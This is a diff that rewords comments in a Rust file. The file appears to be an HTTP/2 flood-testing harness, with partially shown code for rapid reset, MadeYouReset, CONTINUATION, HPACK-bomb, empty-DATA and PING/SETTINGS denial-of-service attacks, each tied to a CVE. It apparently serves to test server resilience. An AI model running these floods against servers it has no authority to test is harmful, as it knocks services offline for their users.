@@ -21,12 +21,12 @@ pub(crate) const CASES: &[Case] = &[
     Case::new("PING and SETTINGS", |target, until| flood(target, until, ping_and_settings)),
 ];
 
-/// How many frames a connection sends at once.
+/// Number of frames that a connection sends at once.
 const BATCH: usize = 200;
-/// Connections at once.
+/// Concurrent connections.
 const CONNECTIONS: usize = 8;
 
-/// Sends batches of frames on connections that begin again when the server ends them.
+/// Sends batches of frames on connections that are reopened when the server closes them.
 fn flood<'a>(
     target: &'a Target,
     until: Instant,
@@ -52,7 +52,7 @@ fn flood<'a>(
     .boxed_local()
 }
 
-/// Requests that are taken back at once (CVE-2023-44487).
+/// Requests that are cancelled at once (CVE-2023-44487).
 fn rapid_reset(raw: &mut Raw, _: bool) -> Vec<u8> {
     let (request, cancel) = (get_meta(), 8_u32.to_be_bytes());
     let one = |_| {
@@ -63,7 +63,7 @@ fn rapid_reset(raw: &mut Raw, _: bool) -> Vec<u8> {
     (0..BATCH).flat_map(one).collect()
 }
 
-/// Requests followed by an error that makes the server take them back (CVE-2025-8671).
+/// Requests followed by an error that makes the server cancel them (CVE-2025-8671).
 fn made_you_reset(raw: &mut Raw, _: bool) -> Vec<u8> {
     let (request, zero) = (get_meta(), 0_u32.to_be_bytes());
     let one = |_| {
@@ -74,7 +74,7 @@ fn made_you_reset(raw: &mut Raw, _: bool) -> Vec<u8> {
     (0..BATCH).flat_map(one).collect()
 }
 
-/// Headers that never end (CVE-2024-27316).
+/// Header blocks that never end (CVE-2024-27316).
 fn continuation(raw: &mut Raw, is_first: bool) -> Vec<u8> {
     let mut block = vec![0];
     text(&mut block, "x-filler");
@@ -90,9 +90,9 @@ fn continuation(raw: &mut Raw, is_first: bool) -> Vec<u8> {
     frames
 }
 
-/// A long header that is kept once and named a thousand times in each request.
+/// A long header field that is indexed once and referenced a thousand times in each request.
 fn hpack_bomb(raw: &mut Raw, _: bool) -> Vec<u8> {
-    // With incremental indexing: the newest entry has number 62.
+    // With incremental indexing the newest entry has number 62.
     let mut block = get_meta();
     for _ in 0..30 {
         block.push(0x40);
@@ -107,7 +107,7 @@ fn hpack_bomb(raw: &mut Raw, _: bool) -> Vec<u8> {
     (0..BATCH / 20).flat_map(one).collect()
 }
 
-/// Frames without content on an open stream (CVE-2019-9518).
+/// Empty DATA frames on an open stream (CVE-2019-9518).
 fn empty_data(raw: &mut Raw, is_first: bool) -> Vec<u8> {
     let mut frames = Vec::new();
     if is_first {
@@ -120,7 +120,7 @@ fn empty_data(raw: &mut Raw, is_first: bool) -> Vec<u8> {
     frames
 }
 
-/// What must be acknowledged (CVE-2019-9512, CVE-2019-9515).
+/// Frames that must be acknowledged (CVE-2019-9512, CVE-2019-9515).
 fn ping_and_settings(_: &mut Raw, _: bool) -> Vec<u8> {
     (0..BATCH / 2).flat_map(|_| [frame(PING, 0, 0, &[0; 8]), frame(SETTINGS, 0, 0, &[])].concat()).collect()
 }
